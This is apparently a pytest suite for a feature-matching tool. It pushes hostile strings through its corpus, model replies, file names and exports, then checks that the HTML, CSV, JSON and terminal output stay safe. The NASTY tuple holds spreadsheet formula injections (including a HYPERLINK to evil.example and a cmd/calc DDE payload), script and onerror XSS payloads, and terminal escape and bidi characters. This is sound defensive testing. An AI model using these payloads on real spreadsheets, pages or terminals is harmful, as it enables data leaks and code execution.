"""Strangers' texts through the whole product: corpus, describing model, judge, and every way out."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path
from typing import Any
from xml.dom import minidom

import pandas as pd
import pyarrow.parquet as pq
import pytest
from described_runs import SMALL
from scripted_server import Asked, Say, serving
from starlette.testclient import TestClient
from tiny_suites import write_sae, write_suite
from typer.testing import CliRunner

from saematch.cli import app
from saematch.configs import DescribeConfig, EvaluationConfig
from saematch.explorer.explorer import Explorer
from saematch.explorer.server import application
from saematch.models import LanguageModel
from saematch.pipelines import RunConfig, open_run
from saematch.pipelines import run as run_suite
from saematch.pipelines.describe import describe
from saematch.pipelines.evaluation.evaluate import evaluate
from saematch.store.tables import descriptions_of
from saematch.text import clean

PORT = 8322
NASTY = (
    '=HYPERLINK("http://evil.example"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "half \ud83d and whole \ud83d\ude00",
    "\x1b[2J\x1b]0;title\x07 \x9b31m \x00 NUL",
    "a\rb\r\nc\x85d\u2028e",
    "</script><script>window.hacked=1</script><!-- ]]> <img src=x onerror=alert(1)>",
    "\u202eright to left \u2066",
    "'single' \"double\" `back` ${x} %s {0} \\",
    "[bold]markup[/bold] [/] $\\frac{1}{$ & &amp;",
    "\ufffe\uffff\U0001ffff",
    "x" * 100_000,
)
"""What no reply, corpus or name may do harm with."""
NUMBERS = ("NaN", "-Infinity", "1e999", "9" * 5000, "01", "0x10")
"""In a reply as numbers; the last two are no JSON, and the fourth is more than Python reads."""
MODEL = '=m\x1b[2J</script>\u202e"&'
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")


def call(*arguments: object) -> str:
    done = CliRunner().invoke(app, [str(one) for one in arguments])
    assert done.exit_code == 0, (done.output, done.exception)
    return done.output


def replies(kind: str) -> Any:
    """A script that says each nasty text in turn, in JSON and out of it, and bad numbers now and then."""
    texts, numbers, labels = cycle(NASTY), cycle(NUMBERS), cycle(["SAME", "MAYBE", "DIFFERENT"])
    count = 0

    def say(asked: Asked) -> Say:
        nonlocal count
        count += 1
        text = next(texts)
        if kind == "describe":
            return Say(json.dumps({"description": text}))
        more = f', "confidence": {next(numbers)}' if count % 3 == 0 else ""
        ascii_only = bool(count % 2) or "\ud83d" in text
        reason = json.dumps(text, ensure_ascii=ascii_only)
        return Say(f'{{"reason": {reason}{more}, "label": "{next(labels)}"}}')

    return say


@pytest.fixture(scope="module")
def fed(described_model: LanguageModel, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A run with nasty texts from everybody who may give it some."""
    folder = tmp_path_factory.mktemp('=it\'s a "<run>" &amp;')
    corpus = folder / "=c|'&<b>\u202e$.jsonl"
    corpus.write_text("".join(json.dumps({"text": one * 3}) + "\n" for one in NASTY))
    directory = folder / "run"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HF_HUB_OFFLINE", "1")
        patch.setenv("OPENAI_API_KEY", "sk-test-0123456789abcdefghij")
        patch.setenv("SAEMATCH_CACHE", str(tmp_path_factory.mktemp("cache")))
        suite = write_suite(folder / "suite", (40, 40, 40, 40), seed=3)
        run_suite(RunConfig(str(suite), random_draws=2), directory)
        corpora = str(corpus), "web"
        config = DescribeConfig(**{**vars(SMALL), "corpora": corpora, "documents": len(NASTY)})
        describe(directory, config, model=described_model)
        measured = EvaluationConfig(
            corpora=corpora,
            documents=len(NASTY),
            tokens=24,
            quantiles=(0.0, 0.5, 1.0),
            causal_pairs=0,
            batch_tokens=80,
        )
        evaluate(directory, measured, model=described_model)
        flags = ("--samples", 12, "--controls", 4, "--yes")
        with serving(replies("describe")) as server:
            call("explain", directory, *flags, "--model", MODEL, "--base-url", server.url)
        with serving(replies("judge")) as server:
            ask = (*flags, "--model", MODEL, "--base-url", server.url, "--descriptions", "model")
            call("judge", directory, *ask)
        yield directory


@pytest.fixture(scope="module")
def client(fed: Path) -> Iterator[TestClient]:
    explorer = Explorer(fed)
    explorer.first.all()
    yield TestClient(application(explorer, PORT), base_url=f"http://127.0.0.1:{PORT}")
    explorer.close()


def strict(text: str | bytes) -> Any:
    """JSON as other readers have it: no NaN; and nothing in it that is no character."""

    def refuse(name: str) -> None:
        raise AssertionError(f"bare {name}")

    value = json.loads(text, parse_constant=refuse)
    for one in texts_in(value):
        assert not CONTROL.search(one), one[:80]
    return value


def texts_in(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from value
        for one in value.values():
            yield from texts_in(one)
    elif isinstance(value, list):
        for one in value:
            yield from texts_in(one)


class Tags(HTMLParser):
    """Elements of a page, and its scripts as a browser would cut them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))
        if tag == "script":
            self.scripts.append("")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            self.scripts[-1] += data


def check_page(data: bytes) -> Tags:
    text = data.decode()
    assert not CONTROL.search(text)
    page = Tags(text)
    assert not any("onerror" in attributes for _, attributes in page.seen)
    assert not any("window.hacked" in one and "{" not in one for one in page.scripts)
    return page


def check_csv(data: bytes) -> list[list[str]]:
    text = data.decode()
    assert not CONTROL.search(text)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len({len(row) for row in rows}) == 1
    for cell in (cell for row in rows[1:] for cell in row):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert float(cell) is not None, cell[:80]  # a number is a number
    return rows


def test_everything_was_kept_clean(fed: Path) -> None:
    run = open_run(fed)
    wanted = {clean(one).strip() for one in NASTY} - {""}
    written = descriptions_of(run, "model-0", "3") or pytest.fail("nothing was described")
    assert written.count
    answers = pq.read_table(fed / "judgements.parquet").to_pandas()
    reasons = set(answers["reason"].str.strip())
    for one in wanted - {"x" * 100_000}:
        assert any(one[:40] in reason for reason in reasons), one[:40]
    assert (answers["outcome"] == "judged").mean() > 0.5
    for path in fed.rglob("*.json*"):
        for line in (
            path.read_text().splitlines() if path.suffix == ".jsonl" else [path.read_text()]
        ):
            strict(line)
    for path in fed.rglob("*.parquet"):
        for one in texts_in(pq.read_table(path).to_pylist()):
            assert not CONTROL.search(one)


def test_report_and_figures(fed: Path) -> None:
    call("figures", fed)
    drawn = [*(fed / "figures").rglob("*.svg")]
    assert len(drawn) > 5
    for path in drawn:
        picture = minidom.parse(str(path))
        assert not picture.getElementsByTagName("script"), path
    check_page((fed / "report.html").read_bytes())


def test_findings(fed: Path) -> None:
    strict(call("findings", fed, "--json"))
    text = (fed / "findings.md").read_text()
    assert not CONTROL.search(text)
    for table in text.split("\n\n")[1:]:
        assert len({len(re.split(r"(?<!\\)\|", row)) for row in table.strip().splitlines()}) == 1


def test_explorer(client: TestClient, fed: Path) -> None:
    questions = ["run", "features?limit=200", "whole?measure=mse", "compare"]
    for key in open_run(fed).manifest["saes"]:
        for question in ("path", "evidence", "candidates", "judgements"):
            questions += [f"{question}?feature={key}/{feature}" for feature in range(0, 40, 5)]
    for question in questions:
        reply = client.get(f"/api/{question}")
        assert reply.status_code == 200, (question, reply.text[:300])
        assert reply.content.isascii()
        strict(reply.content)


def test_explorer_take_away(client: TestClient) -> None:
    reply = {kind: client.get(f"/api/take?format={kind}") for kind in ("csv", "json", "parquet")}
    assert {one.status_code for one in reply.values()} == {200}
    rows = strict(reply["json"].content)
    said = {row["description"] for row in rows}
    for one in NASTY[:6]:
        assert clean(one) in said or clean(one).strip() in said, one
    header, *cells = check_csv(reply["csv"].content)
    descriptions = {row[header.index("description")] for row in cells}
    assert {f"'{one}" for one in NASTY[:4]} <= descriptions
    frame = pd.read_csv(io.BytesIO(reply["csv"].content), keep_default_na=True)
    whole = pq.read_table(io.BytesIO(reply["parquet"].content)).to_pandas()
    numbers = whole.select_dtypes("number").columns
    assert len(numbers) > 8
    for name in numbers:  # what is a number stays the number it was
        pd.testing.assert_series_equal(
            frame[name], whole[name], check_dtype=False, check_exact=False, rtol=1e-12
        )


def test_one_file_page(fed: Path, tmp_path: Path) -> None:
    told = call("explore", fed, "--export", tmp_path / "page.html", "--paths", "40")
    assert "page.html" in told
    page = check_page((tmp_path / "page.html").read_bytes())
    [carried] = [one for one in page.scripts if one.startswith("{")]
    assert len(page.scripts) == 2
    assert "</script>" in "".join(texts_in(strict(carried)))


@pytest.mark.parametrize("kind", ["csv", "json", "parquet"])
def test_export(fed: Path, tmp_path: Path, kind: str) -> None:
    call("export", fed, "--format", kind, "--out", tmp_path)
    for name in ("paths", "matchings", "measures"):
        data = (tmp_path / f"{name}.{kind}").read_bytes()
        if kind == "csv":
            assert len(check_csv(data)) > 1
        elif kind == "json":
            assert strict(data)
        else:
            assert pq.read_table(io.BytesIO(data)).num_rows


def test_a_terminal_of_ascii_alone(fed: Path) -> None:
    key = next(iter(open_run(fed).manifest["saes"]))
    program = "from saematch.cli import main; main()"
    for arguments in (
        ("paths", fed, "--feature", f"{key}/1"),
        ("paths", fed, "--feature", f"{NASTY[7].replace(chr(0), '')}{NASTY[9]}/1"),
        ("findings", fed),
    ):
        line = [sys.executable, "-c", program, *map(str, arguments)]
        env = {**os.environ, "PYTHONIOENCODING": "ascii", "HF_HUB_OFFLINE": "1"}
        done = subprocess.run(line, env=env, capture_output=True, timeout=120)
        said = (done.stdout + done.stderr).decode("ascii")
        assert "Traceback" not in said
        assert not CONTROL.search(said)
        assert done.returncode == (2 if "\x1b" in str(arguments[-1]) else 0), said


def test_names_of_strangers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of folders and models, in square brackets that rich would take for markup."""
    monkeypatch.setenv("SAEMATCH_CACHE", str(tmp_path / "cache"))
    suite = tmp_path / "[v1]" / "[" / "bold]"
    for layer in (3, 4):
        for number, name in enumerate(("=1+1[red]", "<script>\u202e\x1b[2J", "a\r'&\"")):
            folder = write_sae(suite / f"layer_{layer}" / name, layer, 12, seed=number)
            config = json.loads((folder / "cfg.json").read_text())
            config["metadata"]["model_name"] = f"[/]{MODEL}\ud83d"
            (folder / "cfg.json").write_text(json.dumps(config))
    run = tmp_path / "[/]" / "run"
    shown = [
        call("inspect", folder),
        call("match", suite / "layer_3" / "=1+1[red]", folder, "--compare", "--verify"),
        call("run", "--suite", suite, "--out", run, "--random-draws", 2),
        call("paths", run, "--feature", f"{next(iter(open_run(run).manifest['saes']))}/2"),
        call("export", run, "--out", tmp_path / "export"),
        call("figures", run),
        call("explore", run, "--export", tmp_path / "page.html"),
    ]
    for one in shown:
        assert not CONTROL.search(one)
        assert "\u202e" not in one
    assert "[/]=m" in shown[0]
    assert "[v1]/[/bold]/layer_3/=1+1[red]" in shown[1].replace("\n", "")
    check_csv((tmp_path / "export/paths.csv").read_bytes())
    for path in (run / "report.html", tmp_path / "page.html"):
        check_page(path.read_bytes())
